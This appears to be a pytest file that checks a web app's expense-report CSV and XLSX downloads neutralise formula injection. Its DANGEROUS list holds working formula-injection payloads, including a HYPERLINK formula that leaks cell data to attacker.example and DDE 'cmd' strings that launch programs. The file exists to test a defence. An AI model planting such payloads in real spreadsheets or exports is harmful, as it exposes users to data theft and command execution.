"""CSV and XLSX downloads: text that a spreadsheet would run as a formula is defused, numbers stay numbers."""
import csv
import io
import re
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from conftest import login
from models import BillingImport, Carrier, Department, RejectedRow, db
from models.expenses import Costs, DepartmentCosts, ExpenseFigures
from webapp.costs.report_files import neutralised, report_csv, report_xlsx

# Each way a cell can start that a spreadsheet takes for a formula (or, for tab and CR, that it strips
# before looking for one).
DANGEROUS = ["=HYPERLINK(\"https://attacker.example/?\"&A1,\"Open\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
             "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
AMOUNT = re.compile(r"^-?\d+\.\d{2}$")


def csv_cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8"), newline="")) for cell in row]


def xlsx_cells(data: bytes) -> list:
    workbook = load_workbook(io.BytesIO(data))
    cells = [cell for row in workbook.active.iter_rows() for cell in row if cell.value is not None]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"], "no cell may be a formula"
    return [cell.value for cell in cells]


def assert_defused(values: list, texts: list[str]) -> None:
    """Every dangerous text is there with its apostrophe; no other text starts like a formula, and a text
    starting with "-" is only ever an amount (the CSV's numbers are text too)."""
    for text in texts:
        assert text not in values
        assert "'" + text in values
    for value in values:
        if isinstance(value, str) and value.startswith(("=", "+", "@", "\t", "\r")):
            pytest.fail(f"{value!r} reads as a formula")
        if isinstance(value, str) and value.startswith("-"):
            assert AMOUNT.match(value), value


@pytest.mark.parametrize("value, expected", [
    *[(text, "'" + text) for text in DANGEROUS],
    ("Kazan showroom", "Kazan showroom"), ("", ""), ("a=b", "a=b"),
    (-15, -15), (Decimal("-15.50"), Decimal("-15.50")), (0, 0), (None, None),
])
def test_only_text_that_starts_like_a_formula_is_changed(value, expected):
    assert neutralised(value) == expected


def test_a_negative_amount_stays_a_number_and_a_dangerous_name_is_defused():
    figures = ExpenseFigures(month=date(2026, 10, 1), currency="RUB", departments=[
        DepartmentCosts(1, "-Minus branch", "Kazan", "=cc", Costs(numbers=1, rental=Decimal("10.00"),
                                                                  previous_total=Decimal("25.00")))])
    workbook = load_workbook(io.BytesIO(report_xlsx(figures)))
    heading, row = [[cell for cell in line] for line in workbook.active.iter_rows(max_row=2)]
    change = [cell.value for cell in heading].index("Change (RUB)")
    assert [cell.value for cell in row[:3]] == ["'-Minus branch", "Kazan", "'=cc"]
    assert row[change].value == -15 and row[change].data_type == "n"
    assert row[3].value == 1 and row[3].data_type == "n"

    [_, line, *_] = list(csv.reader(io.StringIO(report_csv(figures))))
    assert line[:3] == ["'-Minus branch", "Kazan", "'=cc"] and line[change] == "-15.00"


@pytest.fixture
def dangerous_branches(app):
    """Six branches renamed (by an admin, say) to text a spreadsheet would run."""
    departments = db.session.scalars(db.select(Department).order_by(Department.id).limit(len(DANGEROUS))).all()
    for department, text in zip(departments, DANGEROUS):
        department.name, department.cost_centre = text, text
    db.session.commit()
    return DANGEROUS


def test_the_expense_report_downloads_are_defused(client, dangerous_branches):
    login(client, "accountant")
    csv_download = client.get("/costs/report.csv")
    assert csv_download.status_code == 200
    assert_defused(csv_cells(csv_download.data), dangerous_branches)
    xlsx_download = client.get("/costs/report.xlsx")
    assert xlsx_download.status_code == 200
    values = xlsx_cells(xlsx_download.data)
    assert_defused(values, dangerous_branches)
    assert any(isinstance(value, (int, float)) and value > 0 for value in values)  # the amounts are numbers


def test_the_kept_report_downloads_are_defused(client, dangerous_branches):
    login(client, "accountant")
    kept = client.post("/costs/archive", data={})
    assert kept.status_code == 302
    report_url = kept.headers["Location"]
    assert_defused(csv_cells(client.get(f"{report_url}.csv").data), dangerous_branches)
    assert_defused(xlsx_cells(client.get(f"{report_url}.xlsx").data), dangerous_branches)


def test_the_rejected_rows_download_is_defused(client):
    carrier = db.session.scalar(db.select(Carrier).filter_by(name="TransTelecom Direct"))
    billing_import = BillingImport(carrier=carrier, filename="calls.csv", path="/nowhere/calls.csv",
                                   status="finished", rows_rejected=len(DANGEROUS))
    db.session.add(billing_import)
    db.session.flush()
    db.session.add_all(RejectedRow(import_id=billing_import.id, line=number, reason=text, raw=text)
                       for number, text in enumerate(DANGEROUS, start=2))
    db.session.commit()
    login(client, "accountant")
    download = client.get(f"/costs/imports/{billing_import.id}/rejected.csv")
    assert download.status_code == 200
    rows = list(csv.reader(io.StringIO(download.data.decode("utf-8"), newline="")))
    assert rows[0] == ["line", "reason", "row"]
    assert rows[1:] == [[str(number), "'" + text, "'" + text] for number, text in enumerate(DANGEROUS, start=2)]
